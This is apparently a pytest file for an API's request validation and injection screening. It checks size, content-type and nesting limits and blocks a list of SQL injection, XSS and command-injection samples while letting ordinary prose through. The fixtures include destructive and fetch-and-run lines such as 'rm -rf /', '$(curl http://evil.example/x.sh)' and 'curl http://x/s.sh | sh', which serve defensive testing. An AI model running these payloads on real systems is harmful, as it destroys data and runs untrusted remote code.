"""Strict request models, size and content-type limits, and injection screening (both sides)."""

from __future__ import annotations

import pytest
from structlog.testing import capture_logs

from app.api.schemas import MAX_BODY_BYTES
from app.metrics import BLOCKED_REQUESTS
from tests.app.conftest import Api

pytestmark = pytest.mark.anyio


def blocked(reason: str) -> float:
    return BLOCKED_REQUESTS.labels(reason)._value.get()


async def test_unknown_fields_are_refused(api: Api) -> None:
    response = await api.complete(temprature=0.5)
    assert response.status_code == 422
    assert response.json()["errors"] == [{"location": "body.temprature", "message": "Extra inputs are not permitted"}]


@pytest.mark.parametrize(
    ("extra", "location"),
    [
        ({"max_tokens": 0}, "body.max_tokens"),
        ({"temperature": 3}, "body.temperature"),
        ({"model": "echo 1; drop"}, "body.model"),
    ],
)
async def test_values_out_of_range_are_refused(api: Api, extra: dict, location: str) -> None:
    response = await api.client.post("/v1/completions", json={"model": "echo-1", "prompt": "hi", **extra})
    assert response.status_code == 422 and response.json()["errors"][0]["location"] == location


async def test_an_unknown_model_is_a_400(api: Api) -> None:
    response = await api.client.post("/v1/completions", json={"model": "gpt-9", "prompt": "hi"})
    assert response.status_code == 400 and response.json()["detail"] == "unknown model 'gpt-9'; available: echo-1"


async def test_bodies_over_the_limit_are_413(api: Api) -> None:
    before = blocked("body_too_large")
    response = await api.client.post(
        "/v1/completions", content=b" " * (MAX_BODY_BYTES + 1), headers={"content-type": "application/json"}
    )
    assert response.status_code == 413 and response.headers["content-type"] == "application/problem+json"
    assert blocked("body_too_large") == before + 1


async def test_a_body_streamed_past_the_limit_without_a_length_is_413(api: Api) -> None:
    async def chunks():
        for _ in range(MAX_BODY_BYTES // 512 + 2):
            yield b" " * 512

    response = await api.client.post("/v1/completions", content=chunks(), headers={"content-type": "application/json"})
    assert response.status_code == 413


async def test_only_json_bodies_are_accepted(api: Api) -> None:
    response = await api.client.post("/v1/completions", content=b"model=echo-1", headers={"content-type": "text/plain"})
    assert response.status_code == 415 and response.json()["detail"] == "expected Content-Type: application/json"


MALICIOUS = [
    ("sql_injection", "x' OR '1'='1"),
    ("sql_injection", "1; DROP TABLE usage_records"),
    ("sql_injection", "a' UNION SELECT secret_hash FROM api_keys --"),
    ("sql_injection", "1' AND pg_sleep(10)"),
    ("xss", "<script>alert(1)</script>"),
    ("xss", '<img src=x onerror="alert(1)">'),
    ("xss", "click javascript:alert(document.cookie)"),
    ("command_injection", "hello; rm -rf /"),
    ("command_injection", "$(curl http://evil.example/x.sh)"),
    ("command_injection", "`cat /etc/passwd`"),
    ("command_injection", "ok && wget http://evil.example"),
    ("xss", "<svg/onload=alert(1)>"),
    ("command_injection", "; whoami"),
    ("command_injection", "&& id"),
    ("command_injection", "; ls -la /"),
    ("command_injection", "curl http://x/s.sh | sh"),
    ("sql_injection", "' UNION SELECT NULL,NULL--"),
    ("sql_injection", "admin'-- -"),
    ("sql_injection", '" or ""="'),
    ("sql_injection", "1 OR SLEEP(5)#"),
]

BENIGN = [
    "Please select the best answer from the list below.",
    "Explain the difference between <b> and <strong> in HTML.",
    "What does SQL's UNION do, and when should I drop a table?",
    "Write a haiku about the command line and the shell.",
    "My script prints 'hello' -- is that a comment?",
    "Compare 1 = 1 and 'a' = 'a' in logic.",
    "How do I use cat and grep together?",
    "The onerror handler in JavaScript: how does it work?",
    "I tried Java; Python is easier",
    "dog; cat people disagree",
    "the movie 'Up' and others like it",
    'Write "hello" and x = 5',
    "Why does time.sleep(2) block?",
    "a < b when one = 1",
    "Use ls -la to list files",
    "I said 'no' -- and meant it",
    "What's the SQL for 'select * from users'?",
]


@pytest.mark.parametrize(("reason", "prompt"), MALICIOUS)
async def test_injection_patterns_are_blocked_and_counted(api: Api, reason: str, prompt: str) -> None:
    before = blocked(reason)
    response = await api.complete(prompt)
    assert response.status_code == 400, prompt
    assert response.json()["detail"] == f"the request looks like {reason.replace('_', ' ')}"
    assert blocked(reason) == before + 1


@pytest.mark.parametrize("prompt", BENIGN)
async def test_ordinary_prose_passes(api: Api, prompt: str) -> None:
    assert (await api.complete(prompt)).status_code == 200, prompt


@pytest.mark.parametrize(
    "query",
    [
        "filter=x' OR '1'='1",
        "<script>alert(document.cookie)</script>",
        "cmd=rm -rf /",
        "a=1&b=2&cmd=%3Bwhoami",
        "q=%27%20OR%20%271%27%3D%271",
    ],
)
async def test_query_strings_are_screened_too(api: Api, query: str) -> None:
    # A query without "=" is screened as well.
    assert (await api.client.get(f"/v1/usage?{query}")).status_code == 400


async def test_deeply_nested_json_is_a_400_not_a_crash(api: Api) -> None:
    body = "[" * 30000 + "]" * 30000
    response = await api.client.post("/v1/completions", content=body, headers={"content-type": "application/json"})
    assert response.status_code == 400 and response.json()["detail"] == "the JSON body is nested too deeply"


async def test_log_only_mode_lets_the_request_through_and_says_so(start) -> None:
    async with start(screening_mode="log") as api:
        with capture_logs() as logs:
            response = await api.complete("<script>alert(1)</script>")
        assert response.status_code == 200
        assert {"event": "screening flagged a request (log-only mode)", "reason": "xss"}.items() <= logs[0].items()
